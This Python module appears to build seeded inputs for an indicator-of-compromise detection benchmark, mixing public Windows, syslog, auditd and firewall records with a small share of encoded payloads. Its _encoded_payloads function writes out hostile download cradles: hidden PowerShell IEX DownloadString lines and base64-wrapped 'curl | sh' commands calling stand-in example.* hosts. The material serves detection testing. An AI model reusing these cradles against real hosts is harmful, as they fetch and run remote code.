"""Inputs of the IoC benchmark, built once (seeded) and cached.

* ``command_lines.parquet``: 1,000,000 process command lines sampled from
  msticpy's public Windows process events and the demo lake's Windows
  (4688, MDE) events, with 0.5% encoded PowerShell (from a pool of varied
  cradles) and base64 blobs mixed in. They repeat, as real command lines do;
  ``command_lines-*-distinct.parquet`` is the same sample made all distinct.
* ``log.txt``: ~50 MB of log and report text: syslog, auditd, firewall (CEF)
  and command-line records from the same sources plus the texts of the
  labelled IoC corpus as report prose, one record a line, each stamped with
  its own time and sequence number as real logs are (so no two lines repeat).

Runs in huntbook's virtualenv (it reads the demo lake through huntbook).
"""

from __future__ import annotations

import base64
import json
import random
from pathlib import Path
from typing import Any

SHARED = Path(__file__).resolve().parents[2] / "shared" / "data"
SEED = 7


def command_lines(cache: Path, rows: int, distinct: bool = False) -> Path:
    """The command-line table (column ``CommandLine``); built on first use.

    With *distinct*, the same sample with a row number appended to every line
    (`` id=123``), so no two rows are equal and nothing can be scanned once
    for many rows.
    """
    import pandas as pd

    out = cache / f"command_lines-{rows}{'-distinct' if distinct else ''}.parquet"
    if out.exists():
        return out
    rng = random.Random(SEED)
    pool = _windows_command_lines()
    encoded = _encoded_payloads(rng, 200)
    values = [rng.choice(encoded) if rng.random() < 0.005 else rng.choice(pool) for _ in range(rows)]
    if distinct:
        values = [f"{value} id={row}" for row, value in enumerate(values)]
    cache.mkdir(parents=True, exist_ok=True)
    pd.DataFrame({"CommandLine": values}).to_parquet(out, index=False)
    return out


def log_text(cache: Path, megabytes: float, payload_share: float = 0.005) -> Path:
    """The log/report text, *payload_share* of its lines carrying encoded payloads; built on first use."""
    out = cache / f"log-{megabytes:g}MB-{payload_share:g}.txt"
    if out.exists():
        return out
    rng = random.Random(SEED)
    sources = {
        "syslog": _syslog_lines(),
        "auditd": (SHARED / "msticpy" / "auditd_log.txt").read_text(errors="replace").splitlines(),
        "firewall": _firewall_lines(),
        "process": _windows_command_lines(),
        "report": [json.loads(line)["text"].replace("\n", " ") for line in _corpus_lines()],
        "payload": _encoded_payloads(rng, 2000),
    }
    weights = {"syslog": 30, "auditd": 15, "firewall": 25, "process": 20, "report": 10.0}
    weights = {name: share * (1 - payload_share) for name, share in weights.items()}
    weights["payload"] = payload_share * 100
    names = list(weights)
    budget = int(megabytes * 1_000_000)
    lines, size, seq = [], 0, 0
    while size < budget:
        name = rng.choices(names, weights=[weights[n] for n in names])[0]
        seq += 1
        day, second = divmod(seq, 86_400)
        stamp = f"2026-11-{10 + day:02d}T{second // 3600:02d}:{second // 60 % 60:02d}:{second % 60:02d}"
        line = f"{stamp}.{rng.randrange(1000):03d}Z seq={seq} {name}: {rng.choice(sources[name])}"
        lines.append(line)
        size += len(line) + 1
    cache.mkdir(parents=True, exist_ok=True)
    out.write_text("\n".join(lines), encoding="utf-8")
    return out


def _windows_command_lines() -> list[str]:
    import pandas as pd

    values = list(pd.read_csv(SHARED / "msticpy" / "processes_on_host.csv")["CommandLine"].dropna())
    values += list(pd.read_parquet(SHARED / "msticpy" / "win_proc_test.parquet")["CommandLine"].dropna())
    values += list(_demo_table("SecurityEvent", ["CommandLine"])["CommandLine"].dropna())
    values += list(_demo_table("DeviceProcessEvents", ["ProcessCommandLine"]).iloc[:, 0].dropna())
    return [str(v) for v in values if str(v).strip()]


def _syslog_lines() -> list[str]:
    import pandas as pd

    values = list(pd.read_csv(SHARED / "msticpy" / "syslog_data.csv")["SyslogMessage"].dropna())
    values += list(pd.read_csv(SHARED / "msticpy" / "linux_events.csv")["AuditdMessage"].dropna())
    values += list(_demo_table("Syslog", ["SyslogMessage"])["SyslogMessage"].dropna())
    return [str(v) for v in values]


def _firewall_lines() -> list[str]:
    columns = ["DeviceVendor", "DeviceProduct", "Activity", "SourceIP", "DestinationIP", "DestinationPort"]
    frame = _demo_table("CommonSecurityLog", [*columns, "RequestURL"])
    return [
        f"CEF:0|{r.DeviceVendor}|{r.DeviceProduct}|{r.Activity}|src={r.SourceIP} dst={r.DestinationIP} "
        f"dpt={r.DestinationPort}" + (f" request={r.RequestURL}" if isinstance(r.RequestURL, str) else "")
        for r in frame.itertuples()
    ]


def _demo_table(table: str, columns: list[str]) -> Any:
    """Columns of a demo-lake table as a DataFrame."""
    import pandas as pd

    from huntbook.data.lake.lake import Lake

    lake = Lake.demo()
    parts = [pd.read_parquet(path, columns=columns) for path in lake.files(table)]
    return pd.concat(parts, ignore_index=True)


def _corpus_lines() -> list[str]:
    return [line for line in (SHARED / "ioc" / "labelled.jsonl").read_text().splitlines() if line.strip()]


def _encoded_payloads(rng: random.Random, count: int) -> list[str]:
    """PowerShell -EncodedCommand cradles and base64 blobs, each different."""
    out = []
    for i in range(count):
        host = f"cdn{rng.randrange(1000)}.{rng.choice(['example.net', 'example.org', 'example.com'])}"
        script = f"IEX (New-Object Net.WebClient).DownloadString('http://{host}/p/{i}.ps1')"
        encoded = base64.b64encode(script.encode("utf-16-le")).decode()
        if i % 2:
            out.append(f"powershell.exe -nop -w hidden -enc {encoded}")
        else:
            blob = base64.b64encode(f"curl -s http://{host}/x{i} | sh; echo {rng.random()}".encode()).decode()
            out.append(f"/bin/sh -c echo {blob} | base64 -d | sh")
    return out
